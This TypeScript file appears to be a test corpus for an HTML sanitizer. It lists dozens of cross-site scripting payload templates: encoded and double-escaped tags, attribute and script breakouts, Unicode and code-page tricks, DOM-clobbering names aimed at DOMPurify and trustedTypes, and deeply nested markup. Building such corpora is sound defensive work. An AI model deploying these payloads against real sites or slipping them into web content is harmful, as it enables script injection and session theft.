const DEEP = 150;

/** Escapes, code pages, names that a page's own code trips over, and sheer size. `~` is the script of the case. */
export const SPELLING: Readonly<Record<string, string>> = {
  'escaped once': '&lt;img src=x onerror="~"&gt;',
  'escaped twice': '&amp;lt;img src=x onerror="~"&amp;gt;',
  'escaped in numbers': '&#60;script&#62;~&#60;/script&#62;&#x3c;img src=x onerror=~&#x3e;',
  'escaped without semicolons': '&ltimg src=x onerror=~&gt&LT;img src=x onerror=~&GT;',
  'escaped in percent signs': '%3Cscript%3E~%3C/script%3E%253Cimg src=x onerror=~%253E',
  'escaped for a script': '\\u003cscript\\u003e~\\u003c/script\\u003e\\x3cimg src=x onerror=~\\x3e',
  'escaped in a long number': '&#00000000000060;script&#x000000003e;~&#60/script&#62',
  'escaped in an attribute':
    '<p title="&lt;/p&gt;&lt;img src=x onerror=~&gt;" lang="&quot;&gt;&lt;img src=x onerror=~&gt;">x</p>',
  'link text after a quote': '<a href="https://example.com/&quot; onclick=&quot;~">x</a>',
  'link after a quote within': '<a href="https://example.com/?&#34;&#62;&#60;img src=x onerror=~&#62;">x</a>',
  'quote that ends an attribute': '"><img src=x onerror=~><p title="',
  'apostrophe that ends an attribute': "'><img src=x onerror=~><p title='",
  'grave accent that ends an attribute': '`><img src=x onerror=~><p title=`',
  'quote with a handler': '" autofocus onfocus=~ x="',
  'apostrophe with a handler': "' autofocus onfocus=~ x='",
  'grave accent with a handler': '` onmouseover=~ `',
  'quote in a template': '#{~} {{~}} @(~) <%= ~ %> {{constructor.constructor("alert(1)")()}}',
  'quote that ends a script': '";~;//\';~;//`;~;//</script>',
  'quote of another kind': '＂＞＜img src=x onerror=~＞ “><img src=x onerror=~>',
  'brackets of another width': '＜script＞~＜/script＞ ‹img src=x onerror=~› ≺script≻~≺/script≻',
  'brackets with a mark on them': '<\u0338script>~</script\u0338> <img\u0338 src=x onerror=~>',
  'line separators': '<img src=x onerror="\u2028~\u2029">\u2028<script>\u2028~\u2028</script>',
  'line separator in an address': '<a href="java\u2028script:~">x</a><a href="javascript:\u2028~">y</a>',
  'text that reads right to left': '\u202e<img src=x onerror=~>\u202c \u2066<script>~</script>\u2069',
  'text with marks of direction':
    '<p dir="rtl\u200f" onclick="~">x\u061c</p><bdo dir="\u202erlt" onclick=~>y</bdo>',
  'invisible letters':
    '<scr\u200bipt>~</scr\u200bipt><img\u2060 src=x onerror=~><s\u00adcript>~</s\u00adcript>',
  'letters of the tag area': '<p>\u{e0001}\u{e003c}\u{e0073}\u{e003e}<img src=x onerror="~">\u{e007f}</p>',
  'byte order marks': '\ufeff<\ufeffscript>~</script><img\ufeff src=x onerror=~>',
  'UTF-7': '+ADw-script+AD4-~+ADw-/script+AD4-',
  'UTF-7 announced': '<meta charset=utf-7>+ADw-img src+AD0-x onerror+AD0-~+AD4-',
  'overlong letters': 'À¼script>~À¼/script> \u00c0\u00bcimg src=x onerror=~>',
  'letters of a Japanese code page':
    '<meta charset=iso-2022-jp><a title="\u001b$B">x</a><b title="\u001b(B><img src=x onerror=~>">y</b>',
  'letters of US-ASCII with a high bit': '\u00bcscript\u00be~\u00bc/script\u00be',
  'letters that fold': '<ſcript>~</ſcript><ıframe src=javascript:~><lınk onclick=~>x',
  'letters that grow': '<İMG src=x onerror=~><ﬁgure onclick=~>x</ﬁgure>',
  'controls within the tag':
    '<img\u000bsrc=x\u000bonerror=~><img\u0085src=x onerror=~><img\u001fsrc=x onerror=~>',
  'vertical tab after the name': '<script\u000b>~</script\u000b><svg\u000bonload=~>x</svg>',
  'NULs in text and names': 'a\0<im\0g src=x onerr\0or=~><p titl\0e="\0" onclick="~\0">x</p>',
  'half of a pair in numbers':
    '<p title="&#xd83d;&#x0;&#x110000;" onclick="~">&#xd83d;&#0;&#x80;&#x3c;img src=x onerror=~></p>',
  // Names that a page's own code might trip over.
  'clobbered document': '<form name=getElementById><input name=attributes></form><img name=cookie>',
  'clobbered by id': '<a id=config href="javascript:~"></a><a id=config name=url href="javascript:~">x</a>',
  'clobbered form': '<form><input name=parentNode><input name=nodeName onfocus="~" autofocus></form>',
  'clobbered attributes':
    '<form onclick="~"><input name=attributes><input name=removeAttribute><input name=setAttribute></form>',
  'clobbered children':
    '<form id=x onfocus="~" tabindex=1 autofocus><input name=childNodes><input name=firstChild></form>',
  'clobbered owner':
    '<form><input name=ownerDocument><input name=namespaceURI><input name=tagName><img src=x onerror=~></form>',
  'clobbered frames':
    '<iframe name=defaultView></iframe><iframe name=top srcdoc="x"></iframe><img name=body>',
  'clobbered page':
    '<img name=currentScript src="BEACON/cs"><a id=__NEXT_DATA__ href="javascript:~">x</a><p id=__next_f>y</p>',
  'clobbered purifier':
    '<a id=DOMPurify></a><form id=trustedTypes><input id=createPolicy name=createPolicy></form>',
  'clobbered by depth':
    '<form id=a name=b><output id=b name=c>cid:"onerror=~//</output></form><a id=a name=d href="cid:~">x</a>',
  'clobbered canary': '<a id=__xss href="javascript:~">x</a><form name=__xss><input name=toString></form>',
  'named frame': '<iframe name=alert src="javascript:~"></iframe><object name=self></object>',
  'names of our own':
    '<span data-quote-chip data-annotation-id="javascript:~" onclick=~>x</span><p id=reading-keys>y</p>',
  'names of the reader':
    '<p role=document aria-label="Text of" tabindex=0 class=article contenteditable onfocus=~ autofocus>x</p>',
  'custom element': '<link-preview is="x" slot="y" onslotchange="~">x</link-preview>',
  'custom element that is built in':
    '<button is="x-y" onclick="~">x</button><p is="script">~</p><x-script>~</x-script>',
  'names with a colon': '<html:script>~</html:script><x:img src=x onerror=~><svg:svg onload=~>x</svg:svg>',
  'names with a dot': '<script.x>~</script.x><img.x src=x onerror=~><a.b onclick=~ xmlns="BEACON">x</a.b>',
  'prototype names': '<p __proto__="x" constructor="~" toString="~">x</p>',
  'prototype elements':
    '<constructor onclick="~">x</constructor><__proto__ onclick="~">y</__proto__><tostring onclick=~>z</tostring>',
  // Size.
  'deep nest': `${'<div>'.repeat(DEEP)}<img src=x onerror="~">${'</div>'.repeat(DEEP)}`,
  'deep nest of formatting': `${'<b><i>'.repeat(40)}<img src=x onerror="~"><script>~</script>${'</i></b>'.repeat(40)}`,
  'deep nest of tables': `${'<table><tr><td>'.repeat(30)}<img src=x onerror="~">${'</table>'.repeat(30)}`,
  'deep nest of name spaces': `${'<svg><desc><math><mtext>'.repeat(20)}<style><a id="</style><img src=x onerror=~>">`,
  'many attributes': `<p ${Array.from({ length: 300 }, (_, at) => `a${at}=x`).join(' ')} onclick="~">x</p>`,
  'long attribute': `<img src=x alt="${'x'.repeat(3_000)}" onerror="~">`,
  'many ends': `${'</div>'.repeat(60)}${'</template>'.repeat(20)}<img src=x onerror="~">`,
};
